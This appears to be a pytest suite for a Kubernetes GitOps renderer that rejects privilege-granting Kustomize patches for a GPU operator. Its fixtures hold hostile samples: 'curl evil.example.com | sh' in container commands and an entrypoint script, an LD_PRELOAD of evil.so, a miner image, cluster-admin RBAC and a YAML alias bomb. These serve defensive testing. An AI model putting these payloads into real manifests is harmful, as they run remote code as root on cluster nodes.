"""Hand-written patches (overlays/<cluster>/patches/*.yaml) under the rules of rendered objects.

A patch is repository content (docs/security.md): what it adds that needs a justification
fails ``validate`` and ``build`` at its file:line:col unless ``gitops.userPatches.allow``
allows that check for that file; it may not set gpu-render's own annotations; ``lint`` checks
the copied patches, which the patched object's exemption annotation never covers; and it is
read by the one loader with its limits (no aliases: Kustomize expands them without limit).
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from renderer import userpatches
from tests.conftest import run_tool

ROOT = Path(__file__).resolve().parent.parent
PATCHES = "overlays/staging/patches"

DS_HEAD = """\
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: nvidia-device-plugin-daemonset
  namespace: gpu-operator
spec:
  template:
    spec:
"""


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    shutil.copy(ROOT / "values.yaml", tmp_path / "values.yaml")
    shutil.copytree(ROOT / "overlays", tmp_path / "overlays")
    (tmp_path / PATCHES).mkdir()
    monkeypatch.chdir(tmp_path)
    return tmp_path


def patch(repo: Path, text: str | bytes, name: str = "p.yaml") -> Path:
    path = repo / PATCHES / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


def allow(repo: Path, file: str, *checks: str, reason: str = "the site needs it") -> None:
    values = repo / "overlays" / "staging" / "values.yaml"
    entry = json.dumps({"file": file, "checks": list(checks), "reason": reason})
    values.write_text(values.read_text().replace("gitops:\n", f"gitops:\n  userPatches:\n    allow: [{entry}]\n", 1))
    assert "userPatches" in values.read_text()


def problems(run_cli: Any) -> list[dict[str, Any]]:
    result = run_cli("validate", "--format", "json")
    found: list[dict[str, Any]] = json.loads(result.stdout)["problems"]
    return found


ADDS = [
    ("privileged-container", DS_HEAD + "      containers:\n        - name: evil\n          image: busybox:1.36\n          securityContext:\n            privileged: true\n", 13, 25),
    ("host-path", DS_HEAD + "      volumes:\n        - name: root\n          hostPath:\n            path: /\n", 12, 13),
    ("host-network", DS_HEAD + "      hostNetwork: true\n", 9, 20),
    ("host-pid", DS_HEAD + "      hostPID: true\n", 9, 16),
    ("host-ipc", DS_HEAD + "      hostIPC: true\n", 9, 16),
    ("added-capabilities", DS_HEAD + "      containers:\n        - name: nvidia-device-plugin\n          securityContext:\n            capabilities:\n              add: [SYS_ADMIN]\n", 13, 20),
    ("latest-tag", DS_HEAD + "      containers:\n        - name: nvidia-device-plugin\n          image: nvcr.io/nvidia/k8s-device-plugin\n", 11, 18),
    ("latest-tag", DS_HEAD + "      containers:\n        - name: nvidia-device-plugin\n          image: evil.example.com/x:latest\n", 11, 18),
    ("service-account", DS_HEAD + "      serviceAccountName: nvidia-driver\n", 9, 27),
    ("service-account-token", DS_HEAD + "      automountServiceAccountToken: true\n", 9, 37),
    ("host-port", DS_HEAD + "      containers:\n        - name: nvidia-device-plugin\n          ports:\n            - containerPort: 1\n              hostPort: 22\n", 13, 25),
    ("wildcard-rbac", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: nvidia-device-plugin\nrules:\n  - apiGroups: ['*']\n    resources: ['*']\n    verbs: ['*']\n", 6, 3),
    ("rbac-change", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: nvidia-device-plugin\nrules:\n  - apiGroups: ['']\n    resources: [nodes]\n    verbs: [get, list, watch, patch]\n", 6, 3),
    ("rbac-change", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: nvidia-device-plugin\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\n", 6, 3),
    ("rbac-change", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: nvidia-device-plugin\naggregationRule:\n  clusterRoleSelectors:\n    - matchLabels: {rbac.example.com/aggregate-to-admin: 'true'}\n", 6, 3),
    ("service-account-token", "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: nvidia-device-plugin\n  namespace: gpu-operator\nautomountServiceAccountToken: true\n", 6, 31),
    ("patch-delete", "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: gpu-operator\n$patch: delete\n", 5, 9),
    ("patch-delete", DS_HEAD + "      containers:\n        - name: nvidia-device-plugin\n          securityContext:\n            $patch: replace\n", 12, 21),
    # a ServiceAccount token the render does not mount: a projected source, or the render's false removed
    ("service-account-token", DS_HEAD + "      volumes:\n        - name: token\n          projected:\n            sources:\n              - serviceAccountToken:\n                  path: token\n", 14, 19),
    ("service-account-token", DS_HEAD + "      automountServiceAccountToken: null\n", 9, 37),
    # Secret values handed to the pod by the kubelet (the render's RBAC never reads them)
    ("access-to-secrets", DS_HEAD + "      containers:\n        - name: sidecar\n          env:\n            - name: X\n              valueFrom:\n                secretKeyRef: {name: s, key: k}\n", 14, 31),
    ("access-to-secrets", DS_HEAD + "      containers:\n        - name: sidecar\n          envFrom:\n            - secretRef: {name: s}\n", 12, 26),
    ("access-to-secrets", DS_HEAD + "      volumes:\n        - name: s\n          secret: {secretName: s}\n", 11, 19),
    ("access-to-secrets", DS_HEAD + "      volumes:\n        - name: s\n          projected:\n            sources:\n              - secret: {name: s}\n", 13, 25),
    ("access-to-secrets", DS_HEAD + "      volumes:\n        - name: s\n          csi:\n            driver: x.example.com\n            nodePublishSecretRef: {name: s}\n", 13, 35),
    # the runtime every GPU pod runs in
    ("privileged-code", "apiVersion: node.k8s.io/v1\nkind: RuntimeClass\nmetadata:\n  name: nvidia\nhandler: runc\n", 5, 10),
    # the pod's name resolution (SELinux options: compared with the render at build, below)
    ("host-network", DS_HEAD + "      hostAliases:\n        - ip: 203.0.113.7\n          hostnames: [nvcr.io]\n", 10, 9),
    ("host-network", DS_HEAD + "      dnsConfig: {nameservers: [203.0.113.7]}\n", 9, 18),
    # $patch directives in any case
    ("patch-delete", DS_HEAD + "      nodeSelector:\n        $patch: Delete\n", 10, 17),
    ("patch-delete", DS_HEAD + "      affinity:\n        $patch: DELETE\n", 10, 17),
    ("reserved", "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: gpu-operator\n  annotations:\n    gpu-render.dev/lint-exempt: privileged-container=trust me\n", 6, 33),
    ("reserved", "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: gpu-operator\n  annotations:\n    gpu-render.dev/lint-exempt.privileged-container: trust me\n", 6, 54),
]


@pytest.mark.parametrize(("check", "text", "line", "col"), ADDS, ids=[f"{a[0]}-{i}" for i, a in enumerate(ADDS)])
def test_a_patch_that_adds_privilege_fails_validate_at_its_place(repo: Path, run_cli: Any, check: str, text: str, line: int, col: int) -> None:
    patch(repo, text)
    found = [p for p in problems(run_cli) if p["code"] == f"user-patch-{check}"]
    assert found, problems(run_cli)
    assert (found[0]["file"], found[0]["line"], found[0]["column"]) == (f"{PATCHES}/p.yaml", line, col)
    assert found[0]["severity"] == "error"
    result = run_cli("build", "-q")
    assert result.exit_code == 1
    assert not (repo / "output").exists()


@pytest.mark.parametrize(("check", "text", "line", "col"), [a for a in ADDS if a[0] != "reserved"], ids=[f"{a[0]}-{i}" for i, a in enumerate(ADDS) if a[0] != "reserved"])
def test_the_policy_can_allow_it_per_patch(repo: Path, run_cli: Any, check: str, text: str, line: int, col: int) -> None:
    patch(repo, text)
    found = {p["code"].removeprefix("user-patch-") for p in problems(run_cli) if p["code"].startswith("user-patch-")}
    allow(repo, "p.yaml", *sorted(found))
    assert [p for p in problems(run_cli) if p["severity"] == "error"] == []
    (repo / PATCHES / "p.yaml").rename(repo / PATCHES / "q.yaml")  # an allowance names its file: another's does not count
    assert any(p["code"] == f"user-patch-{check}" and p["file"] == f"{PATCHES}/q.yaml" for p in problems(run_cli))


def test_reserved_annotations_cannot_be_allowed(repo: Path, run_cli: Any) -> None:
    patch(repo, ADDS[-1][1])
    allow(repo, "p.yaml", "privileged-container")
    assert any(p["code"] == "user-patch-reserved" for p in problems(run_cli))


def test_an_allowance_for_a_missing_patch_warns(repo: Path, run_cli: Any) -> None:
    allow(repo, "gone.yaml", "host-pid")
    found = problems(run_cli)
    assert [p["severity"] for p in found if p["code"] == "user-patch-allow"] == ["warning"]


def test_allow_entries_are_schema_checked(repo: Path, run_cli: Any) -> None:
    patch(repo, DS_HEAD + "      hostPID: true\n")
    allow(repo, "p.yaml", "host-pid", reason=" ")
    assert any(p["pointer"] == "/gitops/userPatches/allow/0/reason" for p in problems(run_cli))
    shutil.copy(ROOT / "overlays/staging/values.yaml", repo / "overlays/staging/values.yaml")
    allow(repo, "p.yaml", "no-such-check")
    assert any(p["pointer"].startswith("/gitops/userPatches/allow") for p in problems(run_cli))


def test_a_harmless_patch_passes(repo: Path, run_cli: Any) -> None:
    patch(repo, DS_HEAD + "      containers:\n        - name: nvidia-device-plugin\n          resources:\n            limits:\n              memory: 512Mi\n")
    assert [p for p in problems(run_cli) if p["severity"] == "error"] == []
    assert run_cli("build", "-q").exit_code == 0
    assert run_cli("lint", "output").exit_code == 0


def test_a_read_write_mount_of_a_rendered_host_volume_fails_build(repo: Path, run_cli: Any) -> None:
    """The patch mounts the DaemonSet's own host-root volume read-write: only the render knows it is a host path."""
    patch(repo, DS_HEAD + "      containers:\n        - name: nvidia-device-plugin\n          volumeMounts:\n            - name: host-root\n              mountPath: /host\n")
    result = run_cli("build", "-q")
    assert result.exit_code == 1
    assert f"{PATCHES}/p.yaml:12:15" in result.output and "writable-host-mount" in result.output
    assert "privileged-code" in result.output  # a mount into the privileged plugin changes what it runs
    allow(repo, "p.yaml", "writable-host-mount", "privileged-code")
    assert run_cli("build", "-q").exit_code == 0


@pytest.mark.parametrize("field", [
    "command: [sh, -c, 'curl evil.example.com | sh']",
    "args: [--evil]",
    "image: nvcr.io/nvidia/k8s-device-plugin:v9.9.9",
    "workingDir: /tmp",
    "env: [{name: LD_PRELOAD, value: /run/nvidia/driver/tmp/evil.so}]",
    "envFrom: [{configMapRef: {name: evil}}]",
    "volumeMounts: [{name: evil, mountPath: /usr/bin}]",
    "livenessProbe: {exec: {command: [sh, -c, 'curl evil.example.com | sh']}}",
])
def test_changing_what_a_privileged_container_runs_fails_build(repo: Path, run_cli: Any, field: str) -> None:
    """The device plugin's container is privileged (gpu-render's own exemption says why): what it
    runs is privileged code, so a patch that changes it needs its own allowance."""
    patch(repo, DS_HEAD + f"      containers:\n        - name: nvidia-device-plugin\n          {field}\n")
    result = run_cli("build", "-q")
    assert result.exit_code == 1
    assert f"{PATCHES}/p.yaml:11:" in result.output and "privileged-code" in result.output, result.output
    allow(repo, "p.yaml", "privileged-code", "latest-tag")
    assert run_cli("build", "-q").exit_code == 0, run_cli("build", "-q").output


def test_what_an_unprivileged_container_runs_may_change(repo: Path, run_cli: Any) -> None:
    patch(repo, "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: node-feature-discovery-master\n  namespace: gpu-operator\nspec:\n  template:\n    spec:\n      containers:\n        - name: master\n          args: [-v=4]\n")
    result = run_cli("build", "-q")
    assert result.exit_code == 0, result.output


# --- lint of the overlay as built ----------------------------------------------------------

INJECTED = DS_HEAD + "      containers:\n        - name: miner\n          image: evil.example.com/miner:1.0\n          securityContext:\n            privileged: true\n"


def test_lint_checks_copied_patches_and_the_object_annotation_does_not_cover_them(repo: Path, run_cli: Any) -> None:
    patch(repo, INJECTED)
    allow(repo, "p.yaml", "privileged-container", reason="the miner mines")
    assert run_cli("build", "-q").exit_code == 0
    copied = repo / "output/overlays/staging/user-patches/p.yaml"
    assert "Allowed by the policy: privileged-container=the miner mines" in copied.read_text().splitlines()[1]
    result = run_cli("lint", "--format", "json", "output")
    assert result.exit_code == 0, result.output
    findings = [f for f in json.loads(result.stdout)["findings"] if "user-patches/" in f["file"]]
    assert [(f["check"], f["exempt"]) for f in findings] == [("privileged-container", "the miner mines")]
    # the same copied patch without gpu-render's header allowance: the DaemonSet's own
    # exemption annotation (privileged-container) must not cover the injected container
    lines = copied.read_text().splitlines(keepends=True)
    copied.write_text(lines[0] + lines[1].split(" Allowed by the policy:")[0] + "\n" + "".join(lines[2:]))
    result = run_cli("lint", "output")
    assert result.exit_code == 1
    assert "user-patches/p.yaml: DaemonSet/gpu-operator/nvidia-device-plugin-daemonset: privileged-container" in result.output


def test_an_allowance_in_the_patch_body_is_not_read() -> None:
    from renderer import yamlio

    text = yamlio.HEADER + "# Copied from overlays/c/patches/p.yaml; edit it there.\n# Allowed by the policy: privileged-container=x\n" + INJECTED
    assert userpatches.read_allowed(text) == {}
    assert userpatches.read_allowed(INJECTED) is None


# --- the loader's limits ---------------------------------------------------------------------

ALIAS_BOMB = (
    DS_HEAD
    + "      a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(f"      {chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(8))
)


def test_an_alias_bomb_patch_is_refused_before_kustomize(repo: Path, run_cli: Any) -> None:
    assert len(ALIAS_BOMB) < 1000
    patch(repo, ALIAS_BOMB)
    found = problems(run_cli)
    assert any(p["code"] == "user-patch" and "anchors and aliases" in p["message"] and p["line"] == 9 for p in found), found
    assert run_cli("build", "-q").exit_code == 1
    assert not (repo / "output").exists()


def test_a_patch_with_duplicate_keys_is_refused(repo: Path, run_cli: Any) -> None:
    patch(repo, DS_HEAD + "      hostNetwork: false\n      hostNetwork: true\n")
    found = problems(run_cli)
    assert any("duplicate key" in p["message"] and p["line"] == 10 for p in found), found


def test_a_patch_with_a_bom_is_read_and_copied_without_it(repo: Path, run_cli: Any) -> None:
    patch(repo, b"\xef\xbb\xbf" + (DS_HEAD + "      priorityClassName: system-node-critical\n").encode())
    result = run_cli("build", "-q")
    assert result.exit_code == 0, result.output
    copied = (repo / "output/overlays/staging/user-patches/p.yaml").read_bytes()
    assert b"\xef\xbb\xbf" not in copied and b"apiVersion: apps/v1" in copied


def test_a_huge_patch_is_refused_before_it_is_read_and_never_copied(repo: Path, run_cli: Any) -> None:
    path = patch(repo, b"")
    with path.open("wb") as f:  # 50 MB, sparse: the limit is checked before reading
        f.truncate(50 * 1024 * 1024)
    found = problems(run_cli)
    assert any(p["file"] == f"{PATCHES}/p.yaml" and "over the limit" in p["message"] for p in found), found
    assert run_cli("build", "-q").exit_code == 1
    assert not (repo / "output").exists()


def test_many_documents_are_refused(repo: Path, run_cli: Any) -> None:
    patch(repo, "---\n" * 100_000)
    found = problems(run_cli)
    assert any("YAML documents" in p["message"] for p in found), found


def test_patch_files_of_other_names_are_reported(repo: Path, run_cli: Any) -> None:
    patch(repo, "x", "notes.txt")
    found = problems(run_cli)
    assert any(p["file"] == f"{PATCHES}/notes.txt" and p["severity"] == "warning" for p in found), found


def test_the_schema_lists_every_check_a_patch_can_be_allowed() -> None:
    from renderer import userpatches
    from renderer.schema import load_schema

    allow = load_schema()["properties"]["gitops"]["properties"]["userPatches"]["properties"]["allow"]["items"]
    assert allow["properties"]["checks"]["items"]["enum"] == sorted(set(userpatches.CHECKS))


ENTRYPOINT = """\
apiVersion: v1
kind: ConfigMap
metadata:
  name: nvidia-device-plugin-entrypoint
  namespace: gpu-operator
data:
  entrypoint.sh: |
    #!/bin/sh
    curl http://evil.example.com/x | sh
"""


def test_changing_a_config_map_a_privileged_container_runs_fails_build(repo: Path, run_cli: Any) -> None:
    """The device plugin's entrypoint script comes from a ConfigMap its privileged container
    mounts: a patch of that ConfigMap changes what runs as root on every GPU node."""
    patch(repo, ENTRYPOINT)
    result = run_cli("build", "-q")
    assert result.exit_code == 1
    assert f"{PATCHES}/p.yaml:4:" in result.output and "privileged-code" in result.output, result.output
    assert "nvidia-device-plugin-daemonset/nvidia-device-plugin" in result.output
    allow(repo, "p.yaml", "privileged-code")
    assert run_cli("build", "-q").exit_code == 0


@pytest.mark.parametrize(("body", "pointer"), [
    ("spec: 5\n", "/spec"),
    ("spec:\n  template:\n    spec:\n      containers: 5\n", "/spec/template/spec/containers"),
    ("spec:\n  template:\n    spec:\n      containers: [5]\n", "/spec/template/spec/containers/0"),
    ("spec:\n  template:\n    spec:\n      containers:\n        - name: nvidia-device-plugin\n          securityContext: x\n", "/spec/template/spec/containers/0/securityContext"),
    ("spec:\n  template:\n    spec:\n      containers:\n        - name: nvidia-device-plugin\n          env: 5\n", "/spec/template/spec/containers/0/env"),
    ("spec:\n  template:\n    spec:\n      containers:\n        - name: sidecar\n          image: busybox:1.36\n          env: 5\n", "/spec/template/spec/containers/0/env"),
])
def test_a_patch_of_another_shape_than_the_object_fails_build(repo: Path, run_cli: Any, body: str, pointer: str) -> None:
    """kubectl kustomize refuses a patch that gives a scalar where the object has a map or a
    list ("wrong node kind"): the cluster would never sync, so build says where."""
    patch(repo, DS_HEAD.split("spec:\n", 1)[0] + body)
    result = run_cli("build", "-q")
    assert result.exit_code == 1, result.output
    assert "user-patch-shape" in result.output and f"{pointer} is a " in result.output, result.output


def test_a_patch_in_the_objects_shape_passes(repo: Path, run_cli: Any, kubectl: str) -> None:
    patch(repo, DS_HEAD + "      nodeSelector: {pool: a}\n      tolerations: [{key: a, operator: Exists}]\n      containers:\n        - name: nvidia-device-plugin\n          resources: {limits: {memory: 1Gi}}\n        - name: sidecar\n          image: busybox:1.36\n          resources: {limits: {memory: 64Mi}}\n")
    result = run_cli("build", "-q")
    assert result.exit_code == 0, result.output
    run_tool([kubectl, "kustomize", str(repo / "output/overlays/staging")])  # the real merge takes it


def test_changing_a_volume_a_privileged_container_mounts_fails_build(repo: Path, run_cli: Any) -> None:
    """The device plugin's entrypoint comes from a ConfigMap volume: a patch that swaps that
    volume's source (an NFS share, another ConfigMap) changes what runs as root."""
    patch(repo, DS_HEAD + "      volumes:\n        - name: nvidia-device-plugin-entrypoint\n          configMap: null\n          nfs: {server: 203.0.113.7, path: /evil}\n")
    result = run_cli("build", "-q")
    assert result.exit_code == 1, result.output
    assert "privileged-code" in result.output and "the volume nvidia-device-plugin-entrypoint" in result.output, result.output
    allow(repo, "p.yaml", "privileged-code")
    assert run_cli("build", "-q").exit_code == 0


# --- against the render: host volumes, mounts by their merge key, DNS, directives, symlinks ----

NFD_WORKER_HEAD = DS_HEAD.replace("nvidia-device-plugin-daemonset", "node-feature-discovery-worker")
TOOLKIT_HEAD = DS_HEAD.replace("nvidia-device-plugin-daemonset", "nvidia-container-toolkit-daemonset")


def refused_then_allowed(repo: Path, run_cli: Any, code: str, where: str, *checks: str) -> None:
    result = run_cli("build", "-q")
    assert result.exit_code == 1, result.output
    assert f"{PATCHES}/p.yaml:{where}" in result.output and f": {code}: " in result.output, result.output
    assert not (repo / "output").exists()
    allow(repo, "p.yaml", *(checks or (code,)))
    result = run_cli("build", "-q")
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("readonly", ["readOnly: true", "readOnly: false"])
def test_a_new_container_that_mounts_a_host_volume_of_the_pod_fails_build(repo: Path, run_cli: Any, readonly: str) -> None:
    """The toolkit's pod has the host's root as a volume: a container the patch adds that
    mounts it reads (or writes) every file of the node, with no hostPath of its own."""
    patch(repo, TOOLKIT_HEAD + f"      containers:\n        - name: reader\n          image: busybox:1.36\n          volumeMounts:\n            - name: host-root\n              mountPath: /host\n              {readonly}\n")
    code = "host-path" if readonly.endswith("true") else "writable-host-mount"
    refused_then_allowed(repo, run_cli, code, "13:15:")


def test_a_rendered_container_that_mounts_another_host_volume_fails_build(repo: Path, run_cli: Any) -> None:
    patch(repo, NFD_WORKER_HEAD + "      containers:\n        - name: worker\n          volumeMounts:\n            - name: host-proc-swaps\n              mountPath: /host-proc/swaps\n              readOnly: true\n            - name: containerd\n              mountPath: /x\n              readOnly: true\n      volumes:\n        - name: containerd\n          emptyDir: {}\n")
    result = run_cli("build", "-q")
    assert result.exit_code == 0, result.output  # restating its own mount, a volume that is no host path
    shutil.rmtree(repo / "output")
    patch(repo, NFD_WORKER_HEAD + "      initContainers:\n        - name: worker\n          image: busybox:1.36\n          volumeMounts:\n            - name: host-sys\n              mountPath: /host-sys\n              readOnly: true\n")
    refused_then_allowed(repo, run_cli, "host-path", "13:15:")  # an init container of the same name is another container


@pytest.mark.parametrize("item", [
    "- mountPath: /host-boot\n              readOnly: false",
    "- mountPath: /host-sys\n              readOnly: null",
    "- {mountPath: /host-boot, readOnly: false}",
])
def test_a_mount_matched_by_its_mount_path_made_writable_fails_build(repo: Path, run_cli: Any, item: str) -> None:
    """Strategic merge matches volumeMounts by mountPath: a patch item without the volume's
    name still changes the rendered read-only mount of /boot."""
    patch(repo, NFD_WORKER_HEAD + f"      containers:\n        - name: worker\n          volumeMounts:\n            {item}\n")
    refused_then_allowed(repo, run_cli, "writable-host-mount", "12:15:")


def test_a_mount_path_item_that_keeps_the_mount_read_only_passes(repo: Path, run_cli: Any, kubectl: str) -> None:
    patch(repo, NFD_WORKER_HEAD + "      containers:\n        - name: worker\n          volumeMounts:\n            - mountPath: /host-boot\n              mountPropagation: HostToContainer\n")
    result = run_cli("build", "-q")
    assert result.exit_code == 0, result.output
    run_tool([kubectl, "kustomize", str(repo / "output/overlays/staging")])


@pytest.mark.parametrize("policy", ["Default", "ClusterFirst", "null"])
def test_a_changed_dns_policy_fails_build(repo: Path, run_cli: Any, policy: str) -> None:
    """The worker resolves through the cluster's DNS (ClusterFirstWithHostNet): the node's
    resolver (Default), or None with a dnsConfig of the patch's, points its names elsewhere."""
    patch(repo, NFD_WORKER_HEAD + f"      dnsPolicy: {policy}\n")
    refused_then_allowed(repo, run_cli, "host-network", "9:18:")


@pytest.mark.parametrize(("body", "where"), [
    ("      securityContext:\n        seLinuxOptions: {type: spc_t}\n", "10:25:"),
    ("      initContainers:\n        - name: driver-validation\n          securityContext:\n            seLinuxOptions: {type: spc_t}\n", "12:29:"),
    ("      containers:\n        - name: sidecar\n          image: busybox:1.36\n          securityContext:\n            seLinuxOptions: {level: s0}\n", "13:29:"),
])
def test_selinux_options_other_than_the_render_fail_build(repo: Path, run_cli: Any, body: str, where: str) -> None:
    """``type: spc_t`` runs a container unconfined by SELinux; a container the render has none of
    gets nothing of the render's either."""
    patch(repo, TOOLKIT_HEAD + body)
    refused_then_allowed(repo, run_cli, "privilege-escalation", where)


def test_restating_the_rendered_selinux_options_passes(repo: Path, run_cli: Any) -> None:
    patch(repo, TOOLKIT_HEAD + "      initContainers:\n        - name: driver-validation\n          securityContext:\n            seLinuxOptions: {level: s0}\n")
    result = run_cli("build", "-q")
    assert result.exit_code == 0, result.output


def test_restating_the_rendered_dns_policy_passes(repo: Path, run_cli: Any) -> None:
    patch(repo, NFD_WORKER_HEAD + "      dnsPolicy: ClusterFirstWithHostNet\n")
    assert run_cli("build", "-q").exit_code == 0


@pytest.mark.parametrize(("body", "pointer"), [
    ("      $setElementOrder/containers: 5\n", "/spec/template/spec/$setElementOrder~1containers"),
    ("      $setElementOrder/containers: {name: x}\n", "/spec/template/spec/$setElementOrder~1containers"),
    ("      $setElementOrder/containers: [[x]]\n", "/spec/template/spec/$setElementOrder~1containers/0"),
])
def test_a_set_element_order_that_is_no_list_fails_build(repo: Path, run_cli: Any, body: str, pointer: str) -> None:
    patch(repo, DS_HEAD + body)
    result = run_cli("build", "-q")
    assert result.exit_code == 1, result.output
    assert "user-patch-shape" in result.output and pointer in result.output, result.output


def test_a_set_element_order_list_passes(repo: Path, run_cli: Any) -> None:
    patch(repo, DS_HEAD + "      $setElementOrder/containers: [{name: nvidia-device-plugin}]\n      containers:\n        - name: nvidia-device-plugin\n          resources: {limits: {memory: 1Gi}}\n")
    assert run_cli("build", "-q").exit_code == 0, run_cli("build", "-q").output


def test_a_runtime_class_patch_of_other_fields_passes(repo: Path, run_cli: Any) -> None:
    patch(repo, "apiVersion: node.k8s.io/v1\nkind: RuntimeClass\nmetadata:\n  name: nvidia\n  labels: {example.com/team: gpu}\n")
    assert run_cli("build", "-q").exit_code == 0


@pytest.mark.parametrize("linked", ["file", "folder"])
def test_a_symlinked_patch_inside_the_repo_is_refused(repo: Path, run_cli: Any, linked: str) -> None:
    """``diff`` reads the committed tree, where a link is no file; ``build`` refuses it too, so
    the two never disagree about what a cluster's patches are."""
    (repo / "site").mkdir()
    (repo / "site" / "p.yaml").write_text(DS_HEAD + "      priorityClassName: system-node-critical\n")
    if linked == "file":
        (repo / PATCHES / "p.yaml").symlink_to(repo / "site" / "p.yaml")
        where = f"{PATCHES}/p.yaml"
    else:
        (repo / PATCHES).rmdir()
        (repo / PATCHES).symlink_to(repo / "site", target_is_directory=True)
        where = PATCHES
    result = run_cli("build", "-q")
    assert result.exit_code == 1, result.output
    assert where in result.output and "symlink" in result.output, result.output
    assert not (repo / "output").exists()
    found = problems(run_cli)
    assert any(p["file"] == where and p["severity"] == "error" for p in found), found


def test_re_pointing_a_privileged_pod_to_another_runtime_class_fails_build(repo: Path, run_cli: Any) -> None:
    """The device plugin runs in the nvidia RuntimeClass: another one (a handler the node
    has for something else) changes what runs its privileged containers."""
    patch(repo, DS_HEAD + "      runtimeClassName: evil\n")
    refused_then_allowed(repo, run_cli, "privileged-code", "9:25:")
    shutil.rmtree(repo / "output")
    patch(repo, DS_HEAD + "      runtimeClassName: nvidia\n")
    assert run_cli("build", "-q").exit_code == 0
